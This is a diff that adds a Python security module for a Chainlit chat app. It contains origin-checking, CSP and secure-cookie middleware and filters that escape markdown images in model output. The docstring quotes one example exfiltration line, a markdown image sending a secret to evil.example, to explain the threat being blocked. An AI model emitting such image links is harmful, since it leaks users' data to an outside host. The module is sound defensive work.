@@ -1,0 +1,223 @@
+"""What keeps the page and the widget safe on the web: origins, the page's CSP, model output.
+
+- :class:`OriginGuard` (ASGI) answers 403 to any HTTP request, and closes any socket handshake,
+  whose ``Origin`` is neither this server nor one of ``CHORUS_ALLOWED_ORIGINS``: another site's
+  scripts get no data and no session, whatever cookies the browser holds.
+- :class:`PageHardening` (ASGI) gives the page a Content-Security-Policy (scripts only from this
+  server, images only from this server or inline data, nothing framed by other sites) and drops
+  the web fonts and KaTeX styles Chainlit would load from CDNs, so the page makes no outside
+  request at all.
+- :class:`SecureCookies` (ASGI) marks cookies ``Secure`` on HTTPS.
+- :func:`neutralise_images` and :class:`ImageGuard` stop model output from embedding images:
+  in the widget the host site's page decides the CSP, so a markdown image pointing elsewhere
+  (``![x](https://evil.example/?secret=...)``, a known exfiltration trick) must never reach the
+  browser as an image.
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import hashlib
+import re
+from collections.abc import Awaitable, Callable, Iterable, MutableMapping
+from typing import Any
+from urllib.parse import urlsplit
+
+Scope = MutableMapping[str, Any]
+Message = MutableMapping[str, Any]
+Receive = Callable[[], Awaitable[Message]]
+Send = Callable[[Message], Awaitable[None]]
+ASGIApp = Callable[[Scope, Receive, Send], Awaitable[None]]
+
+
+def normalise_origin(origin: str) -> str:
+    """``scheme://host[:port]`` in lower case, without a path or a trailing slash."""
+    parts = urlsplit(origin.strip())
+    if parts.scheme not in ("http", "https") or not parts.netloc:
+        raise ValueError(f"{origin!r} is not an origin like https://www.example.com")
+    return f"{parts.scheme}://{parts.netloc}".lower()
+
+
+def parse_origins(value: str | None) -> list[str]:
+    """``CHORUS_ALLOWED_ORIGINS`` (comma-separated) as normalised origins; ValueError for a bad one."""
+    return [normalise_origin(item) for item in (value or "").split(",") if item.strip()]
+
+
+def _header(scope: Scope, name: bytes) -> str | None:
+    for key, value in scope.get("headers", []):
+        if key == name:
+            return bytes(value).decode("latin-1")
+    return None
+
+
+class OriginGuard:
+    """Refuses cross-origin requests and socket handshakes from origins not on the list."""
+
+    def __init__(self, app: ASGIApp, allowed: Iterable[str]) -> None:
+        self.app = app
+        self.allowed = {normalise_origin(o) for o in allowed}
+
+    def allows(self, origin: str, hosts: Iterable[str | None]) -> bool:
+        try:
+            origin = normalise_origin(origin)
+        except ValueError:
+            return False  # "null" (sandboxed frames, file:) and anything malformed
+        if urlsplit(origin).netloc in {h.strip().lower() for h in hosts if h}:
+            return True  # the page itself (behind a proxy, the host it was asked for)
+        return origin in self.allowed
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        if scope["type"] in ("http", "websocket"):
+            origin = _header(scope, b"origin")
+            hosts = (_header(scope, b"host"), _header(scope, b"x-forwarded-host"))
+            if origin is not None and not self.allows(origin, hosts):
+                if scope["type"] == "websocket":
+                    await send({"type": "websocket.close", "code": 1008, "reason": "origin not allowed"})
+                    return
+                body = b'{"detail":"This origin may not use this Chorus server (CHORUS_ALLOWED_ORIGINS)."}'
+                await send({"type": "http.response.start", "status": 403,
+                            "headers": [(b"content-type", b"application/json"),
+                                        (b"content-length", str(len(body)).encode())]})
+                await send({"type": "http.response.body", "body": body})
+                return
+        await self.app(scope, receive, send)
+
+
+_CDN_TAGS = re.compile(
+    r"<link\b[^>]*\bhref=\"https://(?:fonts\.googleapis\.com|fonts\.gstatic\.com|cdn\.jsdelivr\.net)[^\"]*\"[^>]*/?>",
+    re.I | re.S,
+)
+_INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", re.I | re.S)
+
+
+def harden_html(html: str, frame_ancestors: Iterable[str] = ()) -> tuple[str, str]:
+    """(the page without its CDN links, the Content-Security-Policy that fits it)."""
+    html = _CDN_TAGS.sub("", html)
+    hashes = " ".join(
+        "'sha256-" + base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode() + "'"
+        for body in _INLINE_SCRIPT.findall(html)
+    )
+    ancestors = " ".join(["'self'", *frame_ancestors])
+    policy = "; ".join([
+        "default-src 'self'",
+        f"script-src 'self' {hashes}".strip(),
+        "style-src 'self' 'unsafe-inline'",  # React sets inline styles; styles cannot send data out
+        "img-src 'self' data: blob:",  # no remote images: a model cannot leak data through one
+        "font-src 'self' data:",
+        "connect-src 'self'",
+        "media-src 'self' data: blob:",
+        "worker-src 'self' blob:",
+        "object-src 'none'",
+        "base-uri 'self'",
+        "form-action 'self'",
+        f"frame-ancestors {ancestors}",
+    ])
+    return html, policy
+
+
+class PageHardening:
+    """Rewrites the page's HTML (no CDN links) and sends it with a CSP and related headers."""
+
+    def __init__(self, app: ASGIApp, frame_ancestors: Iterable[str] = ()) -> None:
+        self.app = app
+        self.frame_ancestors = list(frame_ancestors)
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        if scope["type"] != "http" or scope.get("method") not in ("GET", "HEAD"):
+            await self.app(scope, receive, send)
+            return
+        start: Message | None = None
+        chunks: list[bytes] = []
+
+        async def capture(message: Message) -> None:
+            nonlocal start
+            if message["type"] == "http.response.start":
+                headers = {bytes(k).lower(): bytes(v) for k, v in message.get("headers", [])}
+                if headers.get(b"content-type", b"").startswith(b"text/html"):
+                    start = message
+                    return
+                await send(message)
+                return
+            if start is None:
+                await send(message)
+                return
+            chunks.append(bytes(message.get("body", b"")))
+            if message.get("more_body"):
+                return
+            await send_page(start, b"".join(chunks))
+
+        async def send_page(message: Message, body: bytes) -> None:
+            headers = [(bytes(k).lower(), bytes(v)) for k, v in message.get("headers", [])]
+            encoding = dict(headers).get(b"content-encoding", b"")
+            if encoding == b"gzip":
+                body = gzip.decompress(body)
+            elif encoding:
+                await send(message)
+                await send({"type": "http.response.body", "body": body})
+                return
+            html, policy = harden_html(body.decode("utf-8", errors="replace"), self.frame_ancestors)
+            out = html.encode("utf-8")
+            keep = [(k, v) for k, v in headers if k not in (b"content-length", b"content-encoding",
+                                                              b"content-security-policy")]
+            keep += [(b"content-length", str(len(out)).encode()),
+                     (b"content-security-policy", policy.encode()),
+                     (b"x-content-type-options", b"nosniff"),
+                     (b"referrer-policy", b"same-origin")]
+            await send({**message, "headers": keep})
+            await send({"type": "http.response.body", "body": out if scope.get("method") != "HEAD" else b""})
+
+        await self.app(scope, receive, capture)
+
+
+class SecureCookies:
+    """Marks every cookie ``Secure`` when the request came over HTTPS (directly, or through a
+    proxy that says so with ``X-Forwarded-Proto``): Chainlit only does for ``SameSite=None``."""
+
+    def __init__(self, app: ASGIApp) -> None:
+        self.app = app
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        https = scope.get("scheme") == "https" or (_header(scope, b"x-forwarded-proto") or "").lower() == "https"
+        if scope["type"] != "http" or not https:
+            await self.app(scope, receive, send)
+            return
+
+        async def secure(message: Message) -> None:
+            if message["type"] == "http.response.start":
+                headers = []
+                for key, value in message.get("headers", []):
+                    if bytes(key).lower() == b"set-cookie" and b"secure" not in bytes(value).lower():
+                        value = bytes(value) + b"; Secure"
+                    headers.append((key, value))
+                message = {**message, "headers": headers}
+            await send(message)
+
+        await self.app(scope, receive, secure)
+
+
+_IMAGE = re.compile(r"!\[")
+
+
+def neutralise_images(text: str) -> str:
+    """Model output with every markdown image turned into plain text (``![`` escaped)."""
+    return _IMAGE.sub(r"!\\[", text)
+
+
+class ImageGuard:
+    """:func:`neutralise_images` over a stream of tokens: a ``!`` at the end of one token waits
+    for the next, so an image split across tokens is caught too."""
+
+    def __init__(self) -> None:
+        self._held = ""
+
+    def feed(self, token: str) -> str:
+        text = self._held + token
+        self._held = ""
+        if text.endswith("!"):
+            text, self._held = text[:-1], "!"
+        return neutralise_images(text)
+
+    def flush(self) -> str:
+        held, self._held = self._held, ""
+        return held
